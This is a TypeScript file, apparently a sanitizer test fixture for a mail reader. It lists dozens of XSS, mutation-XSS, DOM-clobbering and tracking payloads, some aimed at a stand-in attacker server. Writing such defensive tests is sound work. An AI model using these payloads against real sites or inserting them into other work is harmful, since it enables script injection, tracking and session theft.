/**
 * Bodies that try to run script, load something, or leave the frame. `hit()` is a function of the
 * page that tells the test; `evil` is a server that must never be asked.
 */
export function attackPayloads(evil: string): string[] {
  const call = "(top.hit||parent.hit||window.hit||alert)('ran')";
  return [...scripts(call), ...mutations(call), ...loads(evil), ...escapes(evil, call)];
}

function scripts(call: string): string[] {
  return [
    `<script>${call}</script>`,
    `<script src="data:text/javascript,${encodeURIComponent(call)}"></script>`,
    `<img src=x onerror="${call}">`,
    `<img src=x onerror=${call.replaceAll(' ', '')}>`,
    `<body onload="${call}">`,
    `<svg onload="${call}"></svg>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${call}"><text x="20" y="20">click</text></a></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">click</maction></math>`,
    `<iframe src="javascript:${call}"></iframe>`,
    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
    `<object data="data:text/html,<script>${call}</script>"></object>`,
    `<embed src="data:text/html,<script>${call}</script>">`,
    `<a href="javascript:${call}" style="display:block;height:200px">click</a>`,
    `<a href="java&#x09;script:${call}" style="display:block;height:200px">click</a>`,
    `<a href=" &#14; javascript:${call}" style="display:block;height:200px">click</a>`,
    `<a href="data:text/html,<script>${call}</script>" style="display:block;height:200px">click</a>`,
    `<form action="javascript:${call}"><input type=submit style="width:200px;height:200px"></form>`,
    `<button formaction="javascript:${call}" style="width:200px;height:200px">x</button>`,
    `<details open ontoggle="${call}"><summary>x</summary></details>`,
    `<video><source onerror="${call}"></video>`,
    `<audio src=x onerror="${call}"></audio>`,
    `<input autofocus onfocus="${call}">`,
    `<select autofocus onfocus="${call}"></select>`,
    `<marquee onstart="${call}">x</marquee>`,
    `<div onclick="${call}" onmouseover="${call}" style="height:200px">x</div>`,
    `<p style="animation-name:x" onanimationstart="${call}">x</p><style>@keyframes x{}</style>`,
    `<div tabindex=1 autofocus onfocus="${call}">x</div>`,
    `<link rel=import href="data:text/html,<script>${call}</script>">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
    `<style>@import 'javascript:${call}';</style>`,
    `<div style="width:expression(${call})">x</div>`,
    `<isindex type=image src=1 onerror="${call}">`,
    `<keygen autofocus onfocus="${call}">`,
    `<x contenteditable onblur="${call}">x</x>`,
    `<template><script>${call}</script></template>`,
    `<template shadowrootmode="open"><img src=x onerror="${call}"></template>`,
    `<portal src="javascript:${call}">`,
    `<img src="x" srcset="y" onerror="${call}">`,
  ];
}

/** What looks harmless to one parser and is not to the next. */
function mutations(call: string): string[] {
  return [
    `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${call}>">`,
    `<svg><foreignObject><p><style><!--</style><img title="--><img src=x onerror=${call}>">`,
    `<!--><img src=x onerror=${call}>-->`,
    `<!-- --!><img src=x onerror=${call}> -->`,
    `<![CDATA[><img src=x onerror=${call}>]]>`,
    `<?xml ><img src=x onerror=${call}>?>`,
    `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
    `<textarea><p title="</textarea><img src=x onerror=${call}>"></textarea>`,
    `<title><p title="</title><img src=x onerror=${call}>"></title>`,
    `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
    `<plaintext><img src=x onerror=${call}>`,
    `<p title="&quot; onmouseover=&quot;${call}" style="height:200px">x</p>`,
    `<p title='" onmouseover="${call}' style="height:200px">x</p>`,
    `<p title=\`" onmouseover="${call}\` style="height:200px">x</p>`,
    `<img alt="\`><img src=x onerror=${call}>">`,
    `<a title="x\u0000" onmouseover="${call}" style="display:block;height:200px">x</a>`,
    `<img/src=x/onerror=${call}>`,
    `<img src=x\nonerror\n=\n"${call}">`,
    `<IMG SRC=x OnErRoR="${call}">`,
    `<<img src=x onerror=${call}>`,
    `<img src="x` + `"`.repeat(3) + ` onerror=${call}>`,
    `</p></main></body></html><script>${call}</script>`,
    `<b><table><b><script>${call}</script></b></table></b>`,
    `<div data-folded="quote"><div data-folded='"><script>${call}</script>'>x</div></div>`,
    `<details><summary></summary><script>${call}</script></details>`,
    `<img src="cid:&quot;><script>${call}</script>">`,
    `<img data-remote-src="https://x.example/&quot; onerror=&quot;${call}">`,
    `<a href="https://x.example/&quot; onmouseover=&quot;${call}" style="display:block;height:200px">x</a>`,
    `<font color="red&quot; onmouseover=&quot;${call}">x</font>`,
  ];
}

/** What would tell the sender that the mail is read. */
function loads(evil: string): string[] {
  return [
    `<img src="${evil}/img">`,
    `<img srcset="${evil}/srcset 1x">`,
    `<picture><source srcset="${evil}/source"><img src="${evil}/picture"></picture>`,
    `<img src="//${evil.slice(7)}/relative">`,
    `<img src="h\tttp:${evil.slice(5)}/tab">`,
    `<input type=image src="${evil}/input">`,
    `<body background="${evil}/body"><table background="${evil}/table"><td background="${evil}/td">x`,
    `<div style="background:url(${evil}/css)">x</div>`,
    `<div style="background-image:u\\72l(${evil}/escape)">x</div>`,
    `<div style="background:url/**/(${evil}/comment)">x</div>`,
    `<div style="background:image-set('${evil}/set' 1x)">x</div>`,
    `<div style="list-style:url(${evil}/list)">x</div>`,
    `<div style="cursor:url(${evil}/cursor),auto;height:200px">x</div>`,
    `<div style="--x:url(${evil}/var);background:var(--x)">x</div>`,
    `<style>body{background:url(${evil}/style)}</style>`,
    `<style>@import url(${evil}/import);</style>`,
    `<style>@font-face{font-family:x;src:url(${evil}/font)}p{font-family:x}</style><p>x</p>`,
    `<link rel="stylesheet" href="${evil}/link">`,
    `<link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="${evil}">`,
    `<link rel="preload" as="image" href="${evil}/preload">`,
    `<link rel="icon" href="${evil}/icon">`,
    `<video poster="${evil}/poster" src="${evil}/video" autoplay></video>`,
    `<audio src="${evil}/audio" autoplay></audio>`,
    `<track src="${evil}/track">`,
    `<iframe src="${evil}/iframe"></iframe>`,
    `<frameset><frame src="${evil}/frame"></frameset>`,
    `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<applet code="${evil}/applet"></applet>`,
    `<svg><image href="${evil}/svg-image" xlink:href="${evil}/svg-xlink"/></svg>`,
    `<svg><use href="${evil}/use#x"/></svg>`,
    `<svg><feImage href="${evil}/feimage"/></svg>`,
    `<script src="${evil}/script"></script>`,
    `<base href="${evil}/"><img src="based">`,
    `<html manifest="${evil}/manifest">`,
    `<meta http-equiv="Link" content="<${evil}/meta>; rel=stylesheet">`,
  ];
}

/** What would take the reader or the desk somewhere else. */
function escapes(evil: string, call: string): string[] {
  return [
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${call}</script>`,
    `<meta http-equiv="Set-Cookie" content="earshot=stolen">`,
    `<base href="${evil}/" target="_top">`,
    `<form action="${evil}/form" target="_top"><button style="width:200px;height:200px">x</button></form>`,
    `<form id=f action="${evil}/form2"></form><button form=f style="width:200px;height:200px">x</button>`,
    `<a href="${evil}/ping" ping="${evil}/pinged">x</a>`,
    `<map name="m"><area shape="rect" coords="0,0,500,500" href="javascript:${call}"></map><img usemap="#m" width=200 height=200 src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<img src="/api/v1/me"><img src="/api/v1/sessions">`,
    `<div style="position:fixed;inset:0;background:white">overlay</div>`,
    `<img name="body"><img name="getElementById"><form name="documentElement"></form>`,
    `<dialog open><form method=dialog><button style="height:200px">x</button></form></dialog>`,
    `<fencedframe src="${evil}/fenced"></fencedframe>`,
  ];
}
